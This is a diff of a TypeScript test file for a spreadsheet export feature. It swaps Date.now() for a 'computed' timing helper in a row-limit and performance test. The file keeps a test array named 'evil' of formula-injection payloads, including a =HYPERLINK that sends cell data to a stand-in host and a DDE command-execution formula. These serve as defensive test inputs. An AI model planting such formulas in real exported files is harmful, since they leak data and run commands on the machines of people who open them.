@@ -7,6 +7,7 @@ import { loan } from '#shared/requests/loan.ts'
 import { exportLimit } from '#server/platform/lists.ts'
 import { openStage, type Person, type Stage } from './cast.ts'
 import { openTargets } from './rights-targets.ts'
+import { computed } from '../support/cost.ts'
 
 let stage: Stage
 const evil = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"]
@@ -107,7 +108,7 @@ describe('an export', () => {
       insert into request (id, code, module, author_id, requestor_id, subject_id, status_id, transaction_date, form, starts_on, ends_on, quantity, type_id)
       select gen_random_uuid(), 'LV-X-' || n, 'LeaveRequest', ${stage.id.amina}, ${stage.id.amina}, ${stage.id.amina}, 4, '2020-01-01', '{}', '2020-01-01', '2020-01-01', 1, ${stage.portal.company.leave.annual}
       from generate_series(1, ${exportLimit + 1}) n`.execute(stage.portal.database.db)
-    const [memory, started] = [process.memoryUsage().rss, Date.now()]
+    const [memory, started] = [process.memoryUsage().rss, computed()]
     const body = { filterSearch: 'LV-X-', columns: ['code', 'days'] }
     const refused = await exported(body)
     expect([refused.status, JSON.parse(refused.raw.toString()).Message]).toEqual([400, expect.stringContaining('more than 50')])
@@ -115,7 +116,7 @@ describe('an export', () => {
     const { raw } = await exported(body)
     const sheet = partsOf(raw).get('xl/worksheets/sheet1.xml') ?? ''
     expect(sheet.match(/<row /g)).toHaveLength(50_001)
-    expect(Date.now() - started).toBeLessThan(20_000)
+    expect(computed() - started).toBeLessThan(20_000)
     expect(process.memoryUsage().rss - memory).toBeLessThan(600 * 1024 * 1024)
   })
 })
